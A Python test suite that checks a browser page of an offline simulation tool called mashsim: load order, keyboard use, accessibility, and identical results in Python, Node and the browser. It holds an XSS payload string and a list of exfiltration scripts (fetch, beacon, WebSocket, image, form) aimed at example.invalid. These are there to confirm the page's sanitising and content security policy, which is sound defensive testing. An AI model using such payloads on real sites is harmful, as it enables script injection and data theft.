"""The page in a real browser and in Node, offline: what it shows before Python is there, a what-if by keyboard, and the same answers.

Slow: Python starts in the browser. The parts are fetched once (npm and pip) and kept in the cache folder of `mashsim page`.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from page_opened import NEEDED, PATIENCE, WIDTHS, Opened, browser, built, fetched, opened, ready, violations
from test_page import ASKED, SHORT
from test_report_in_browser import CHROMIUM

from mashsim.loading import load_text
from mashsim.page import handle_text
from mashsim.page.building import packages
from mashsim.page.fetching import Fetched

if TYPE_CHECKING:
    from playwright.sync_api import Browser

__all__ = ["browser", "built", "fetched", "ready"]
pytestmark = pytest.mark.slow
HOSTILE = '<img src=x onerror="window.broken=1"><script>window.broken=1</script>'


def test_the_first_chart_is_there_before_python(browser: Browser, built: Path) -> None:
    begun = time.monotonic()
    found = opened(browser, built, "#base=baseline")
    found.page.locator("#parts .wide svg").first.wait_for(state="visible")
    assert time.monotonic() - begun < 15
    assert found.said("#engine").startswith("The engine is starting")
    assert found.said("#findings").startswith("At the end ")
    assert found.page.locator("#run").is_disabled()
    above = "document.querySelector('.promise').compareDocumentPosition(document.querySelector('input, select')) & 4"
    assert found.page.evaluate(above), "the promise stands above the first input"
    assert "nothing leaves this computer" in found.said(".promise")
    found.page.context.close()


def test_without_webassembly_it_says_so_and_shows_what_was_worked_out(built: Path, browser: Browser) -> None:
    arguments = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--js-flags=--jitless"]
    other = browser.browser_type.launch(executable_path=CHROMIUM, args=arguments)
    found = opened(other, built, "#base=baseline")
    said = found.wait("#engine", "The engine is switched off", patience=30)
    assert "WebAssembly" in said
    assert "You can still read" in said
    assert found.page.locator("#parts .wide svg").first.is_visible()
    assert found.page.locator("#run").is_disabled()
    other.close()


def test_a_what_if_by_keyboard_only(ready: Opened) -> None:
    ready.use(SHORT)
    page = ready.page

    def tab_to(identity: str) -> None:
        for _ in range(60):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.id") == identity:
                assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid", "the focus must be seen"
                return
        pytest.fail(f"Tab does not reach {identity}")

    page.evaluate("document.activeElement.blur()")
    tab_to("control-pools-managers-posts")
    page.keyboard.press("Control+A")
    page.keyboard.type("6")
    tab_to("run")
    page.keyboard.press("Enter")
    ready.wait("#progress-text", "All 2 runs are done.")
    assert ready.said("#results-heading") == "With your changes, beside as it is"
    assert page.evaluate("document.activeElement.id") == "run"
    assert "pools.managers.posts=6" in page.evaluate("location.hash")
    assert "Managers 4 posts 6 posts" in " ".join(ready.said("#parts").split())
    assert ready.said("#command").startswith("mashsim compare own.toml --set pools.managers.posts=6 --seed 1 --replications 2")
    bands = page.evaluate("Array.from(document.querySelectorAll('#parts .wide svg')).map(svg => svg.querySelector('title').textContent)")
    assert any("contacts open" in band for band in bands)


def test_it_stops_while_it_runs_and_what_is_done_stays(ready: Opened) -> None:
    ready.use(SHORT, runs=99)
    ready.page.click("#run")
    ready.wait("#progress-text", "2 of 99", "3 of 99", "4 of 99")
    ready.page.click("#stop")
    said = ready.wait("#progress-text", "Stopped after ")
    done = int(said.split()[2])
    assert 2 <= done < 99
    assert f"simulated {done} times" in ready.said("#facts")
    assert ready.said("#findings").split("\n")[0] in said
    assert ready.page.locator("#run").is_enabled()
    ready.page.fill("#runs", str(done + 1))
    ready.page.click("#run")  # goes on where it stopped: one more run
    ready.wait("#progress-text", f"All {done + 1} runs are done.")
    assert f"simulated {done + 1} times" in ready.said("#facts")
    alone = json.loads(handle_text(json.dumps({"do": "sum up", "text": SHORT, "name": "own.toml", "seed": 1, "replications": done + 1})))
    assert ready.said("#findings") == alone["page"]["findings"][0]


def test_what_is_wrong_is_said_beside_the_controls(ready: Opened) -> None:
    ready.use(SHORT)
    ready.page.fill("#control-pools-managers-posts", "-3")
    ready.page.click("#run")
    assert "Managers is -3; it must be from 0 to 200." in ready.said("#faults")
    assert ready.page.evaluate("document.activeElement.id") == "faults"
    wrong = {"name": "own.toml", "mimeType": "application/toml", "buffer": b'base = "baseline"\n[pools.managrs]\nposts = 3\n'}
    ready.page.set_input_files("#own", wrong)
    ready.wait("#faults", "There is a problem\nown.toml, line 3: pools.managrs.posts: unknown setting; did you mean pools.managers?")


def test_no_hostile_text_becomes_markup(ready: Opened, browser: Browser, built: Path) -> None:
    text = SHORT.replace("Two months", "Tw").replace("[run]", f"place = '{HOSTILE}'\nquestion = '{HOSTILE}'\n[run]")
    ready.use(text)
    ready.page.fill("#control-pools-managers-posts", "5")
    ready.run()
    assert HOSTILE in ready.said("#parts")
    assert ready.page.locator("#results img, #results script").count() == 0
    with ready.page.expect_download() as download:
        ready.page.click("#save-report")
    assert HOSTILE not in Path(download.value.path()).read_text(encoding="utf-8")
    assert ready.page.evaluate("window.broken") is None
    other = opened(browser, built, f"#base={HOSTILE}&{HOSTILE}=3&from={HOSTILE}&runs={HOSTILE}&pools.managers.posts=7")
    other.page.locator("#control-pools-managers-posts").wait_for(state="visible")
    assert other.page.evaluate("[window.broken, document.querySelectorAll('main img').length]") == [None, 0]
    assert other.page.input_value("#control-pools-managers-posts") == "7"
    other.page.context.close()


TRIES = [
    ("connect-src", "fetch('https://example.invalid/x').catch(() => 0)"),
    ("connect-src", "navigator.sendBeacon('https://example.invalid/x', 'secret')"),
    ("connect-src", "try { new WebSocket('wss://example.invalid/x') } catch (refusal) { 0 }"),
    ("img-src", "new Promise(done => { const i = new Image(); i.onerror = () => done(0); i.src = 'https://example.invalid/x.png'; })"),
    (
        "form-action",
        "{ const f = document.createElement('form'); f.action = 'https://example.invalid/'; document.body.append(f); f.submit(); }",
    ),
]


def test_no_request_leaves_the_file_and_a_beacon_is_refused(ready: Opened, browser: Browser, built: Path) -> None:
    assert [address for address in ready.asked if not address.startswith((built.as_uri(), "blob:", "data:"))] == []
    found = opened(browser, built)
    found.page.evaluate("document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))")
    for directive, script in TRIES:
        found.page.evaluate("window.refused = []")
        found.page.evaluate(script)
        found.page.wait_for_timeout(100)
        assert found.page.evaluate("window.refused") == [directive], script
    found.page.context.close()


def test_no_violation_of_wcag_and_nothing_wider_than_the_screen(ready: Opened) -> None:
    """With results, everything folded open, and a complaint."""
    ready.use(SHORT)
    ready.page.fill("#control-pools-managers-posts", "5")
    ready.run()
    ready.page.fill("#control-pools-social_workers-posts", "-1")
    ready.page.click("#run")
    ready.page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
    for width in WIDTHS:
        ready.page.set_viewport_size({"width": width, "height": 900})
        assert violations(ready.page) == [], f"at {width} pixels"
        assert ready.page.evaluate("document.documentElement.scrollWidth") <= width
    ready.page.set_viewport_size({"width": WIDTHS[0], "height": 900})


def test_the_address_holds_the_changes_and_the_scenario_can_be_taken_away(browser: Browser, built: Path, ready: Opened) -> None:
    found = opened(browser, built, "#base=baseline&pools.managers.posts=5.5&from=2026-06-01&runs=7&seed=4")
    found.page.locator("#control-pools-managers-posts").wait_for(state="visible")
    inputs = ["#control-pools-managers-posts", "#from", "#runs", "#seed"]
    assert [found.page.input_value(each) for each in inputs] == ["5.5", "2026-06-01", "7", "4"]
    found.page.fill("#control-demand-rate", "110")
    wanted = "#base=baseline&pools.managers.posts=5.5&demand.rate=110&from=2026-06-01&seed=4&runs=7"
    assert found.page.evaluate("location.hash") == wanted
    found.page.context.close()
    ready.use(SHORT)
    ready.page.fill("#control-demand-rate", "110")
    ready.run()
    with ready.page.expect_download() as download:
        ready.page.click("#save-scenario")
    taken = load_text(Path(download.value.path()).read_text(encoding="utf-8"), "taken")
    assert taken.hash == load_text(SHORT, "short", {"demand.rate": "11330 per year"}).hash


def test_the_same_scenario_and_seed_give_the_same_bytes_in_python_in_node_and_in_the_browser(
    ready: Opened, fetched: Fetched, tmp_path: Path
) -> None:
    """A what-if on the ordinary front door, and a season of the whole one, with every part there is."""
    whole = {"scenario": "story/summer-peak", "changes": {"pools.managers.posts": 6}, "from": "2024-05-01", "seed": 11}
    requests = [
        {"do": "scenarios"}, {"do": "start", "scenario": "baselin"},
        {"do": "start", **ASKED}, {"do": "replicate", "number": 1, **ASKED}, {"do": "sum up", "replications": 3, **ASKED},
        {"do": "files", "replications": 2, **ASKED},
        {"do": "start", **whole}, {"do": "replicate", "number": 0, **whole},
    ]  # fmt: skip
    texts = [json.dumps(request) for request in requests]
    here = [handle_text(text) for text in texts]
    there = [ready.page.evaluate("text => window.mashsim.handle(text)", text) for text in texts]
    assert there == here
    node = shutil.which("node")
    if node is None:
        if NEEDED:
            pytest.fail("node is not on this machine")
        pytest.skip("node is not on this machine; the browser gave the same bytes")
    (tmp_path / "packages.zip").write_bytes(packages(fetched.wheels))
    (tmp_path / "requests.json").write_text(json.dumps(requests), encoding="utf-8")
    command = [node, str(Path(__file__).with_name("page_in_node.mjs")), str(fetched.pyodide), "packages.zip", "requests.json"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, encoding="utf-8", timeout=PATIENCE)
    assert done.returncode == 0, done.stderr[:2000]
    assert json.loads(done.stdout) == here
